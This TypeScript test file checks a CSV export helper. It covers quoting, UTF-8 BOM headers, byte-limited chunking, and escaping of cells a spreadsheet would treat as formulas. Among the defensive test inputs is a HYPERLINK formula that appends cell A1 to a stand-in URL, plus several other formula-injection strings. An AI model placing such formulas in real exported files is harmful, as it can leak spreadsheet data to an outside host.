import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvPart, type CsvColumn } from '../../../lambdas/shared/csv-file.ts';

type Row = readonly string[];
const columns: readonly CsvColumn<Row>[] = ['first', 'second'].map((name, index) => ({
  name,
  cell: (row) => row[index],
}));
const whole = { isFirst: true, maxBytes: Infinity };
const rest = { isFirst: false, maxBytes: Infinity };

/** Read by a parser that knows nothing of the writer. */
const read = (text: string) => parse(text, { bom: true });
/** How a reader that is no spreadsheet takes the apostrophe off again. */
const unguarded = (cell: string) => cell.replace(/^'('*[=+\-@\t\r\n＝＋－＠])/, '$1');

describe('a file', () => {
  test('begins with the mark of UTF-8 and a header, and ends each line as RFC 4180 says', () => {
    const { text } = csvPart(columns, [['Zoë', '東京']], whole);
    expect(text).toBe('\ufeff"first","second"\r\n"Zoë","東京"\r\n');
  });

  test('keeps commas, quotation marks and line ends within their cell', () => {
    const row = ['Bücher; "Söhne", Inc.', 'one\r\ntwo'];
    expect(read(csvPart(columns, [row], whole).text)).toEqual([['first', 'second'], row]);
  });

  test('leaves empty what is not there', () => {
    expect(csvPart(columns, [['a'], ['', 'b']], rest).text).toBe('"a",\r\n,"b"\r\n');
  });

  test('is the same in parts as in one piece', () => {
    const rows = Array.from({ length: 7 }, (_, n) => [`row ${n}`, 'x']);
    const parts = [
      csvPart(columns, rows.slice(0, 3), whole),
      csvPart(columns, rows.slice(3), rest),
    ];
    expect(parts.map(({ text }) => text).join('')).toBe(csvPart(columns, rows, whole).text);
  });

  test('of nothing is a header, and then nothing', () => {
    expect(csvPart(columns, [], whole)).toEqual({ text: '\ufeff"first","second"\r\n', rows: 0 });
    expect(csvPart(columns, [], rest)).toEqual({ text: '', rows: 0 });
  });
});

describe('what a spreadsheet would calculate', () => {
  test.each([
    '=HYPERLINK("http://x.example?"&A1,"Click")',
    '+44 20 7946 0123',
    '-2+3',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    "'=1+1",
  ])('is a text: %j', (value) => {
    const [[cell = ''] = []] = read(csvPart(columns, [[value]], rest).text);
    expect(cell).toBe(`'${value}`);
  });

  test.each(['Engines', "O'Neill", "'quoted'", '3-2', 'a=b', ' =1', '2030-01-01T12:00:00.000Z'])(
    'is not what else there is: %j',
    (value) => {
      expect(read(csvPart(columns, [[value]], rest).text)).toEqual([[value, '']]);
    },
  );
});

test('any text is read as it was written', () => {
  const cell = fc.oneof(
    fc.string({ unit: 'grapheme' }),
    fc.string({ unit: fc.constantFrom('"', ',', '\r', '\n', '=', '+', "'", ';', '\t', 'a', ' ') }),
  );
  fc.assert(
    fc.property(fc.array(fc.tuple(cell, cell), { minLength: 1 }), (rows) => {
      const text = read(csvPart(columns, rows, whole).text);
      const [header, ...found] = text;
      expect(header).toEqual(['first', 'second']);
      expect(found.map((row) => row.map(unguarded))).toEqual(rows);
      for (const shown of found.flat()) expect(shown).not.toMatch(/^[=+\-@\t\r\n]/);
    }),
  );
});

describe('a part that would grow too large', () => {
  const rows = Array.from({ length: 5 }, () => ['ä'.repeat(20), 'x']);
  const lineBytes = Buffer.byteLength(csvPart(columns, rows.slice(0, 1), rest).text);

  test('stops before the row that does not fit, and tells how far it came', () => {
    const part = csvPart(columns, rows, { isFirst: false, maxBytes: 3 * lineBytes });
    expect(part.rows).toBe(3);
    expect(Buffer.byteLength(part.text)).toBe(3 * lineBytes);
  });

  test('has one row at least, so that whoever goes on comes to an end', () => {
    expect(csvPart(columns, rows, { isFirst: true, maxBytes: 1 }).rows).toBe(1);
  });
});
